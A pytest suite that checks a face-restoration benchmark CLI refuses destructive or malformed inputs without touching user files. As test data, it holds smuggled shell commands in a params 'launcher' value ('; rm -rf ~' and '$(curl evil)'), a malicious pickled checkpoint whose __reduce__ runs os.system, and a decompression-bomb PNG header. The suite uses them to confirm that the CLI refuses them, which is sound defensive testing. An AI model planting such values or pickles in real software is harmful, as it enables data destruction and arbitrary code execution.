"""The suite as a careless or hostile user would drive it (issue "never lose a user's data").

Every case is built from generated files and run through the real CLI in-process
(``pipeline.cli.main``; one case also as a subprocess). For each refusal the test asserts the
exit code (2), a message naming the file or params key, no traceback, and that the sha256 of
every file in the command's input and output folders is unchanged.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
import yaml

from core.imageio import write_png
from method_helpers import make_hq, tiny_dict
from pipeline.cli import main

ROOT = Path(__file__).resolve().parents[1]


# ------------------------------------------------------------------------------------------
# helpers

def snapshot(*paths) -> dict:
    """{path: sha256} of every file under ``paths`` (recursive, hidden files and symlinks
    included; a dangling link hashes its target's name), plus the set of paths that exist."""
    out = {}
    for root in map(Path, paths):
        out[f"exists:{root}"] = root.exists() or root.is_symlink()
        items = [root] if root.is_file() or root.is_symlink() else \
            (sorted(root.rglob("*")) if root.is_dir() else [])
        for p in items:
            if p.is_symlink() and not p.exists():
                out[str(p)] = "link->" + os.readlink(p)
            elif p.is_file():
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
            elif p.is_dir():
                out[str(p)] = "dir"
    return out


def refuse(capsys, argv, names, watch) -> str:
    """Run ``frbench argv``; assert exit 2, an ``error:`` line naming each of ``names``, no
    traceback, and every file under ``watch`` unchanged. Returns the error line."""
    before = snapshot(*watch)
    rc = main([str(a) for a in argv])
    cap = capsys.readouterr()
    text = cap.out + cap.err
    assert rc == 2, text
    assert "Traceback" not in text
    errors = [ln for ln in cap.err.splitlines() if ln.startswith("error: ")]
    assert errors, text
    for n in names:
        assert str(n) in errors[0], (n, errors[0])
    assert snapshot(*watch) == before
    return errors[0]


def png_header(path: Path, w: int, h: int) -> Path:
    """A PNG whose header declares w x h (no real pixel data: never decodable)."""
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    data = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 16)) + chunk(b"IEND", b""))
    path.write_bytes(data)
    return path


def images(folder: Path, n: int, size: int, seed: int = 0) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    for i in range(n):
        write_png(folder / f"{i:05d}.png", rng.integers(0, 256, (size, size, 3), dtype=np.uint8))
    return folder


def dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A user's folder of faces (with notes and their own faces.json), GT / restored folders,
    a tiny params file with a trained 2-step prior and a bicubic checkpoint."""
    from methods.trainer import train
    from pipeline.cmd_train import build_trainee
    from pipeline.config import Params, build

    t = tmp_path_factory.mktemp("torture")
    torch.set_num_threads(1)
    src = make_hq(t / "project" / "faces", n=4, size=32)
    (src / "notes.txt").write_text("my notes\n")
    (src / "faces.json").write_text("{}\n")
    images(t / "gt", 3, 64, seed=1)
    images(t / "restored", 3, 64, seed=2)
    images(t / "lq", 3, 16, seed=3)
    d = tiny_dict(t)
    d["train"]["hq_dir"] = str(src)
    (t / "params.yaml").write_text(yaml.safe_dump(d))
    params = build(Params, d)
    for name, steps in (("prior", 2), ("bicubic", None)):
        train(build_trainee(name, params), params, t / "ckpt" / name, steps=steps,
              show_progress=False)
    return t


def repo_params(tmp: Path, edit) -> Path:
    """The repository's params.yaml with ``edit(dict)`` applied, written into ``tmp``."""
    d = yaml.safe_load((ROOT / "params.yaml").read_text())
    edit(d)
    p = tmp / "params.yaml"
    p.write_text(yaml.safe_dump(d))
    return p


# ------------------------------------------------------------------------------------------
# data loss: output folders

def test_degrade_out_equal_to_src_is_refused(world, capsys):
    src = world / "project" / "faces"
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", src,
                    "--seed", 1], [src, "input"], [src])
    # --force does not change it: an input is never replaced
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", src,
                    "--seed", 1, "--force"], [src], [src])


def test_degrade_out_parent_of_src_is_refused(world, capsys):
    project = world / "project"
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", project / "faces",
                    "--out", project, "--seed", 1], [project, "contains the input"], [project])


def test_degrade_out_inside_src_is_refused(world, capsys):
    src = world / "project" / "faces"
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", src / "set",
                    "--seed", 1], ["inside the input"], [src])


def test_evaluate_out_gt_folder_is_refused(world, capsys, monkeypatch):
    monkeypatch.chdir(world)
    refuse(capsys, ["evaluate", "--restored", world / "restored", "--gt", world / "gt",
                    "--protocol", "builtin", "--metrics", "psnr", "--out", world / "gt",
                    "--params", "none"], [world / "gt", "input"],
           [world / "gt", world / "restored"])


def test_restore_output_equal_to_input_is_refused(world, capsys):
    refuse(capsys, ["restore", "--method", "bicubic", "--input", world / "lq", "--output",
                    world / "lq", "--params", world / "params.yaml"], [world / "lq", "input"],
           [world / "lq", world / "ckpt"])


def test_folder_not_made_by_frbench_is_never_replaced(world, capsys, tmp_path):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work\n")
    for force in ([], ["--force"]):
        refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", world / "project" / "faces",
                        "--out", mine, "--seed", 1, *force], [mine, "not made by frbench"],
               [mine, world / "project"])
        refuse(capsys, ["synth-faces", "--n", 2, "--seed", 1, "--out", mine, *force],
               [mine, "not made by frbench"], [mine])


def test_suite_made_folders_rerun_and_force(world, capsys, tmp_path):
    src = world / "project" / "faces"
    out = tmp_path / "set"
    args = ["degrade", "--preset", "panini_mfr", "--src", src, "--out", out, "--seed", 1]
    assert main([str(a) for a in args]) == 0
    first = snapshot(out)
    assert json.loads((out / ".frbench-output.json").read_text())["kind"] == "testset"
    assert main([str(a) for a in args]) == 0  # a rerun replaces its own output (same bytes)
    assert snapshot(out) == first
    faces = tmp_path / "faces"
    assert main(["synth-faces", "--n", "2", "--size", "32", "--seed", "1",
                 "--out", str(faces)]) == 0
    # a face set is not a test set: another kind needs --force
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", faces,
                    "--seed", 1], [faces, "--force"], [faces, src])
    assert main([str(a) for a in args[:-4] + ["--out", faces, "--seed", 1, "--force"]]) == 0
    assert (faces / "manifest.json").is_file() and (faces / "gt").is_dir()
    capsys.readouterr()


def test_stale_temp_folders_are_removed(world, tmp_path):
    from core.outputs import _host_tag
    src = world / "project" / "faces"
    host, dead = _host_tag(), dead_pid()
    stale = tmp_path / f".set.tmp-{dead}@{host}-deadbeef"
    live = tmp_path / f".set.tmp-{os.getpid()}@{host}-cafe0000"
    old_legacy = tmp_path / ".set.tmp-k3j4h5g6"
    new_legacy = tmp_path / ".set.tmp-a1b2c3d4"
    other = tmp_path / f".other.tmp-{dead}@{host}-deadbeef"
    for d in (stale, live, old_legacy, new_legacy, other):
        images(d / "gt", 2, 8)
    two_days = time.time() - 2 * 86400
    os.utime(old_legacy, (two_days, two_days))
    assert main(["degrade", "--preset", "panini_mfr", "--src", str(src), "--out",
                 str(tmp_path / "set"), "--seed", "1"]) == 0
    assert not stale.exists() and not old_legacy.exists()  # owner gone / an old leftover
    assert live.exists() and new_legacy.exists()  # a running writer, a recent unknown one
    assert other.exists()  # leftovers of another output are not this command's business


def test_interrupted_swap_is_recovered(tmp_path):
    """A writer killed between its two renames leaves the previous output as ``.X.old-*``:
    the next writer puts it back instead of deleting it."""
    from core.outputs import _host_tag, clean_stale
    old = tmp_path / f".set.old-{dead_pid()}@{_host_tag()}-00000000"
    images(old, 1, 8)
    clean_stale(tmp_path, "set")
    assert (tmp_path / "set" / "00000.png").is_file() and not old.exists()


# ------------------------------------------------------------------------------------------
# checkpoints

def test_train_steps_zero_negative_and_resume_minus_one(world, capsys):
    ck = world / "ckpt" / "prior"
    for steps in ("0", "-5"):
        refuse(capsys, ["train", "prior", "--params", world / "params.yaml", "--steps", steps],
               ["--steps"], [ck])
    refuse(capsys, ["train", "prior", "--params", world / "params.yaml", "--resume", "--steps",
                    "-1"], ["--steps"], [ck])


# ------------------------------------------------------------------------------------------
# tracebacks before: huge headers, bad devices, learning rates, overrides, sizes, bootstrap

def test_decompression_bomb_header(world, capsys, tmp_path, monkeypatch):
    src = tmp_path / "src"
    shutil.copytree(world / "project" / "faces", src)
    png_header(src / "bomb.png", 100000, 100000)
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out",
                    tmp_path / "out", "--seed", 1], ["bomb.png", "too large"],
           [src, tmp_path / "out"])
    gt, rest = tmp_path / "gt", tmp_path / "rest"
    shutil.copytree(world / "gt", gt)
    shutil.copytree(world / "restored", rest)
    png_header(gt / "00002.png", 100000, 100000)
    monkeypatch.chdir(tmp_path)
    refuse(capsys, ["evaluate", "--restored", rest, "--gt", gt, "--protocol", "builtin",
                    "--metrics", "psnr", "--out", tmp_path / "res", "--params", "none"],
           ["00002.png", "too large"], [gt, rest, tmp_path / "res"])


def test_huge_image_refused_from_its_header_before_decoding(world, capsys, tmp_path):
    src = tmp_path / "src"
    shutil.copytree(world / "project" / "faces", src)
    png_header(src / "huge.png", 12000, 12000)  # not decodable: only the header can be read
    t0 = time.perf_counter()
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out",
                    tmp_path / "out", "--seed", 1], ["huge.png", "12000x12000"],
           [src, tmp_path / "out"])
    assert time.perf_counter() - t0 < 5
    # one image of another size is reported from the headers too, before any degradation
    (src / "huge.png").unlink()
    images(src / "x", 1, 48)
    shutil.move(src / "x" / "00000.png", src / "zz.png")
    shutil.rmtree(src / "x")
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out",
                    tmp_path / "out", "--seed", 1], ["zz.png", "48 px", "--size"],
           [src, tmp_path / "out"])


def test_bad_device(world, capsys, tmp_path, monkeypatch):
    p = repo_params(tmp_path, lambda d: d.update(device="gpu"))
    refuse(capsys, ["testsets", "--params", p], ["params: device", "gpu"], [p])
    monkeypatch.chdir(world)
    refuse(capsys, ["evaluate", "--restored", world / "restored", "--gt", world / "gt",
                    "--protocol", "builtin", "--metrics", "psnr", "--out", tmp_path / "res",
                    "--device", "gpu", "--params", "none"], ["--device", "gpu"],
           [world / "gt", world / "restored", tmp_path / "res"])


@pytest.mark.parametrize("key, edit", [
    ("prior.lr", lambda d: d["prior"].update(lr=-0.002)),
    ("methods.panini.lr", lambda d: d["methods"]["panini"].update(lr=-1e-3)),
    ("train.ckpt_every", lambda d: d["train"].update(ckpt_every=-20)),
    ("params: seed", lambda d: d.update(seed=-3)),
    ("testsets.workers", lambda d: d["testsets"].update(workers=-2)),
    ("testsets.sets.mfr.seed", lambda d: d["testsets"]["sets"]["mfr"].update(seed=-1)),
    ("pipeline.launcher", lambda d: d["pipeline"].update(launcher="python -m pipeline.cli; rm -rf ~")),
    ("pipeline.launcher", lambda d: d["pipeline"].update(launcher="$(curl evil) -m pipeline.cli")),
    ("testsets.sets.mfr", lambda d: d["testsets"]["sets"]["mfr"].update(overrides={"jpeg": [200, 300]})),
])
def test_bad_params_name_their_key(capsys, tmp_path, key, edit):
    p = repo_params(tmp_path, edit)
    refuse(capsys, ["testsets", "--params", p], [key], [p])
    refuse(capsys, ["train", "prior", "--params", p], [key], [p])


@pytest.mark.parametrize("override, key", [("jpeg=[200,300]", "jpeg"), ("sigma=[-5,-1]", "sigma"),
                                           ("noise=[5,1]", "noise"), ("side=[0,10]", "side")])
def test_bad_preset_overrides(world, capsys, tmp_path, override, key):
    src = world / "project" / "faces"
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", tmp_path / "o",
                    "--seed", 1, "--set", override], [key], [src, tmp_path / "o"])


@pytest.mark.parametrize("argv, name", [(["--size", "0"], "--size"), (["--size", "-64"], "--size"),
                                        (["--workers", "0"], "--workers"),
                                        (["--seed", "-1"], "--seed"), (["--n", "-2"], "--n")])
def test_bad_degrade_numbers(world, capsys, tmp_path, argv, name):
    src = world / "project" / "faces"
    args = ["degrade", "--preset", "panini_mfr", "--src", src, "--out", tmp_path / "o"]
    args += argv if "--seed" in argv else ["--seed", "1", *argv]
    refuse(capsys, args, [name], [src, tmp_path / "o"])


@pytest.mark.parametrize("argv, name", [(["--bootstrap-samples", "-5"], "--bootstrap-samples"),
                                        (["--batch-size", "0"], "--batch-size")])
def test_bad_evaluate_numbers(world, capsys, tmp_path, monkeypatch, argv, name):
    monkeypatch.chdir(world)
    refuse(capsys, ["evaluate", "--restored", world / "restored", "--gt", world / "gt",
                    "--protocol", "builtin", "--metrics", "psnr", "--out", tmp_path / "res",
                    "--params", "none", *argv], [name],
           [world / "gt", world / "restored", tmp_path / "res"])


def test_bad_restore_batch_size(world, capsys, tmp_path):
    refuse(capsys, ["restore", "--method", "bicubic", "--input", world / "lq", "--output",
                    tmp_path / "o", "--params", world / "params.yaml", "--batch-size", "0"],
           ["--batch-size"], [world / "lq", tmp_path / "o"])


# ------------------------------------------------------------------------------------------
# bad input accepted silently before

def test_dangling_symlink_is_an_error(world, capsys, tmp_path, monkeypatch):
    src = tmp_path / "src"
    shutil.copytree(world / "project" / "faces", src)
    os.symlink(tmp_path / "gone.png", src / "00009.png")
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", tmp_path / "o",
                    "--seed", 1], ["00009.png", "dangling"], [src, tmp_path / "o"])
    gt = tmp_path / "gt"
    shutil.copytree(world / "gt", gt)
    os.symlink(tmp_path / "gone.png", gt / "00003.png")
    monkeypatch.chdir(tmp_path)
    refuse(capsys, ["evaluate", "--restored", world / "restored", "--gt", gt, "--protocol",
                    "builtin", "--metrics", "psnr", "--out", tmp_path / "res", "--params", "none"],
           ["00003.png", "dangling"], [gt, world / "restored", tmp_path / "res"])


def test_tiny_images_are_refused(capsys, tmp_path):
    src = images(tmp_path / "src", 3, 1)
    refuse(capsys, ["degrade", "--preset", "panini_mfr", "--src", src, "--out", tmp_path / "o",
                    "--seed", 1], ["00000.png", "16 px"], [src, tmp_path / "o"])


def test_restore_other_size_refused_unless_resize(world, capsys, tmp_path):
    big = images(tmp_path / "big", 2, 64)
    out = tmp_path / "o"
    refuse(capsys, ["restore", "--method", "bicubic", "--input", big, "--output", out,
                    "--params", world / "params.yaml"], ["00000.png", "64x64", "16x16", "--resize"],
           [big, out])
    assert main(["restore", "--method", "bicubic", "--input", str(big), "--output", str(out),
                 "--params", str(world / "params.yaml"), "--resize"]) == 0
    man = json.loads((out / "manifest.json").read_text())
    assert man["resize_allowed"] is True and man["resized"] == {
        "n": 2, "from_sizes": {"64": 2}, "to": 16, "interpolation": "bicubic"}
    assert man["partial_checkpoint"] is False


# ------------------------------------------------------------------------------------------
# leftovers and small things

def test_infinite_psnr_is_null_plus_flag_and_consistent(world, tmp_path, monkeypatch, capsys):
    from metrics.evaluate import read_summary
    rest = tmp_path / "rest"
    shutil.copytree(world / "gt", rest)  # identical to GT: PSNR = +inf
    monkeypatch.chdir(tmp_path)
    assert main(["evaluate", "--restored", str(rest), "--gt", str(world / "gt"), "--protocol",
                 "builtin", "--metrics", "psnr,ssim", "--out", str(tmp_path / "res"),
                 "--params", "none"]) == 0
    text = (tmp_path / "res" / "summary.json").read_text()
    assert "Infinity" not in text and "NaN" not in text
    raw = json.loads(text, parse_constant=lambda c: pytest.fail(f"non-JSON constant {c}"))
    psnr = raw["metrics"]["psnr"]
    assert psnr["mean"] is None and psnr["mean_nonfinite"] == "inf"
    assert raw["metrics"]["ssim"]["mean"] == pytest.approx(1.0)
    rows = (tmp_path / "res" / "per_image.csv").read_text().splitlines()
    assert rows[1].split(",")[1] == "inf"  # the CSV spells it out
    assert read_summary(tmp_path / "res" / "summary.json")["metrics"]["psnr"]["mean"] == float("inf")
    assert "inf" in capsys.readouterr().out  # and so does the command's own table


def test_unsafe_checkpoint_message_is_whole(world, capsys, tmp_path):
    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned",))
    evil = tmp_path / "evil.pt"
    torch.save({"format": "frbench-checkpoint/1", "x": Evil()}, evil)
    line = refuse(capsys, ["restore", "--method", "bicubic", "--input", world / "lq",
                           "--output", tmp_path / "o", "--params", world / "params.yaml",
                           "--checkpoint", evil], [evil, "refused to load", "system"],
                  [world / "lq", evil, tmp_path / "o"])
    quoted = line[line.index("(torch: ") + 8:line.index("). frbench")]
    assert quoted.endswith(".")  # whole sentences, not cut
    assert "weights_only` set to `False`" not in line  # torch's hint to load it unsafely


def test_partial_checkpoint_refused_by_every_consumer(world, capsys, tmp_path):
    """A checkpoint whose step is below its total is refused by restore, the cell and a
    training that starts from it, unless --allow-partial (recorded); model.pt never holds it."""
    from methods.trainer import is_partial, load_checkpoint, train
    from pipeline.cmd_train import build_trainee
    from pipeline.config import Params, build

    d = yaml.safe_load((world / "params.yaml").read_text())
    d["train"]["checkpoint_dir"] = str(tmp_path / "ckpt")
    pfile = tmp_path / "params.yaml"
    pfile.write_text(yaml.safe_dump(d))
    params = build(Params, d)
    # an interrupted prior training (2 of its 4 steps) and an interrupted bicubic-free method
    train(build_trainee("prior", params), params, tmp_path / "ckpt" / "prior", stop_after=2,
          show_progress=False)
    prior_dir = tmp_path / "ckpt" / "prior"
    assert not (prior_dir / "model.pt").exists()  # DVC's output never holds a partial file
    ck = load_checkpoint(prior_dir / "model.partial.pt")
    assert is_partial(ck) and (ck["step"], ck["total_steps"]) == (2, 4)
    # training on it: refused, naming the file and the way out
    refuse(capsys, ["train", "gpen", "--params", pfile, "--steps", "1"],
           [prior_dir / "model.pt", "partial", "--allow-partial", "--resume"],
           [prior_dir, tmp_path / "ckpt" / "gpen"])
    assert main(["train", "gpen", "--params", str(pfile), "--steps", "1", "--no-progress",
                 "--allow-partial"]) == 0
    g = load_checkpoint(tmp_path / "ckpt" / "gpen" / "model.pt")
    assert "partial checkpoint: step 2 of 4" in g["provenance"]["prior"]
    assert "--allow-partial" in g["provenance"]["prior"]
    # restore / load_for_inference: a partial method checkpoint
    gdir = tmp_path / "ckpt" / "gpen2"
    train(build_trainee("gpen", params), params, gdir, stop_after=1, show_progress=False,
          allow_partial=True)
    lq = world / "lq"
    refuse(capsys, ["restore", "--method", "gpen", "--input", lq, "--output", tmp_path / "r",
                    "--params", pfile, "--checkpoint", gdir / "model.pt"],
           [gdir / "model.pt", "partial", "--allow-partial"], [gdir, lq, tmp_path / "r"])
    refuse(capsys, ["restore", "--method", "gpen", "--input", lq, "--output", tmp_path / "r",
                    "--params", pfile, "--checkpoint", gdir / "model.partial.pt"],
           ["model.partial.pt", "step 1 of 4", "--allow-partial"], [gdir, lq, tmp_path / "r"])
    assert main(["restore", "--method", "gpen", "--input", str(lq), "--output",
                 str(tmp_path / "r"), "--params", str(pfile), "--checkpoint",
                 str(gdir / "model.pt"), "--allow-partial"]) == 0
    man = json.loads((tmp_path / "r" / "manifest.json").read_text())
    assert man["partial_checkpoint"] is True and man["allow_partial"] is True
    assert man["checkpoint"].endswith("model.partial.pt") and man["checkpoint_step"] == 1
    capsys.readouterr()


def test_cli_refusal_as_a_subprocess(world, tmp_path):
    """The real entry point: exit status 2, one error line on stderr, no traceback."""
    src = world / "project" / "faces"
    before = snapshot(src)
    r = subprocess.run([sys.executable, "-m", "pipeline.cli", "degrade", "--preset",
                        "panini_mfr", "--src", str(src), "--out", str(src), "--seed", "1"],
                       capture_output=True, text=True, cwd=ROOT, timeout=120,
                       env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert r.returncode == 2, r.stderr
    assert r.stderr.startswith(f"error: {src}") and "Traceback" not in r.stderr + r.stdout
    assert snapshot(src) == before


def test_train_out_refused_when_an_input_or_not_a_checkpoint_folder(world, capsys, tmp_path):
    pf = world / "params.yaml"
    faces = world / "project" / "faces"
    refuse(capsys, ["train", "prior", "--params", pf, "--out", faces, "--steps", 1],
           [faces, "input"], [faces])
    prior = world / "ckpt" / "prior"
    refuse(capsys, ["train", "gpen", "--params", pf, "--out", prior, "--steps", 1],
           [prior, "input"], [prior])
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "model.pt").write_bytes(b"my own model")
    refuse(capsys, ["train", "prior", "--params", pf, "--out", mine, "--steps", 1, "--force"],
           [mine, "not made by frbench"], [mine])


def test_report_out_inside_an_input_or_foreign_folder(capsys, tmp_path):
    p = repo_params(tmp_path, lambda d: None)
    res = tmp_path / "results"
    (res / "panini" / "mfr").mkdir(parents=True)
    (res / "panini" / "mfr" / "summary.json").write_text("{}\n")
    refuse(capsys, ["report", "--params", p, "--results", res, "--out", res / "rep"],
           [res / "rep", "input"], [res])
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "index.txt").write_text("mine\n")
    refuse(capsys, ["report", "--params", p, "--results", res, "--out", mine],
           [mine, "no earlier output"], [mine, res])


@pytest.mark.slow
def test_kill_9_during_degrade_then_rerun(tmp_path):
    """A real ``kill -9`` mid-build leaves a hidden temp folder and no output; the next run
    removes the leftover (its owner is gone) and builds the set."""
    import signal
    src = images(tmp_path / "src", 600, 64)
    out = tmp_path / "sets" / "mfr"
    cmd = [sys.executable, "-m", "pipeline.cli", "degrade", "--preset", "panini_mfr", "--src",
           str(src), "--out", str(out), "--seed", "1"]
    proc = subprocess.Popen(cmd, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 120
    tmp = None
    while time.time() < deadline and proc.poll() is None:
        tmps = [p for p in (tmp_path / "sets").glob(".mfr.tmp-*")] \
            if (tmp_path / "sets").is_dir() else []
        if tmps and len(list((tmps[0] / "lq").glob("*.png"))) >= 20:
            tmp = tmps[0]
            break
        time.sleep(0.05)
    if tmp is None:
        proc.kill()
        pytest.skip("the build finished before it could be killed")
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert tmp.exists() and not out.exists()  # interrupted: nothing finished-looking
    assert main(["degrade", "--preset", "panini_mfr", "--src", str(src), "--out", str(out),
                 "--seed", "1", "--n", "4"]) == 0
    assert not tmp.exists() and out.is_dir()
    assert [p.name for p in (tmp_path / "sets").iterdir()] == ["mfr"]
